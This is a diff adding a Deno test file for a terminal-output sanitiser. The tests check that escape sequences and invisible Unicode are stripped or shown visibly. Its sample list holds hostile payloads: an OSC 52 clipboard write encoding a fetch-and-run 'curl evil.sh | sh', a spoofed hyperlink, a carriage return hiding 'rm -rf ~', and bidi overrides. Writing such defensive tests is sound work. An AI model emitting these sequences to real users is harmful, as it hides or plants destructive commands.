@@ -1,0 +1,45 @@
+import assert from "node:assert/strict";
+import { hasHiddenChars, safeText } from "../../src/ui/safe_text.ts";
+
+/** Hostile sequences a model, a command's output or a file can carry. */
+const HOSTILE = [
+  "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07", // OSC 52: write the clipboard
+  "\x1b]0;innocent title\x07", // window title
+  "\x1b[2J\x1b[H", // clear screen, cursor home
+  "\x1b[1A\x1b[2K", // cursor up, erase line: rewrites what was printed
+  "\x1b]8;;https://evil.example/\x1b\\safe link\x1b]8;;\x1b\\", // hyperlink with other text
+  "\x1bP+q544e\x1b\\", // DCS request
+  "\x9b2J", // 8-bit CSI
+  "\x9d0;title\x9c", // 8-bit OSC
+  "echo safe\rrm -rf ~", // carriage return overwrite
+  "ls\x08\x08\x08rm", // backspaces
+  "a\u202eexe.txt", // right-to-left override
+  "if (a \u2066&& b\u2069)", // isolates
+  "zero\u200bwidth", // invisible
+  "\x00\x05\x7f",
+];
+
+Deno.test("no hostile sequence survives: the result has no C0/C1 control but newline and tab", () => {
+  for (const h of HOSTILE) {
+    const out = safeText(`before ${h} after\n\tindented`);
+    assert.ok(!/[\x00-\x08\x0b-\x1f\x7f-\x9f]/.test(out), JSON.stringify(out));
+    assert.ok(!/[\u202a-\u202e\u2066-\u2069\u200b-\u200f]/.test(out), JSON.stringify(out));
+    assert.ok(out.startsWith("before ") && out.endsWith(" after\n\tindented"));
+    assert.equal(hasHiddenChars(h), true, JSON.stringify(h));
+  }
+});
+
+Deno.test("what was hidden is shown, so the reader sees every character that will run", () => {
+  assert.equal(safeText("echo safe\rrm -rf ~"), "echo safe^Mrm -rf ~");
+  assert.equal(safeText("\x1b[2J"), "␛[2J");
+  assert.equal(safeText("\x9b2J"), "\\x9b2J");
+  assert.equal(safeText("a\u202eb"), "a<U+202E>b");
+  assert.equal(safeText("a\tb", { tabs: "show" }), "a^Ib");
+});
+
+Deno.test("ordinary text, unicode and emoji pass unchanged", () => {
+  for (const s of ["plain", "naïve café — ünïcödé", "日本語のテキスト", "emoji 🎉👍", "x\ny\tz"]) {
+    assert.equal(safeText(s), s);
+    assert.equal(hasHiddenChars(s), false);
+  }
+});
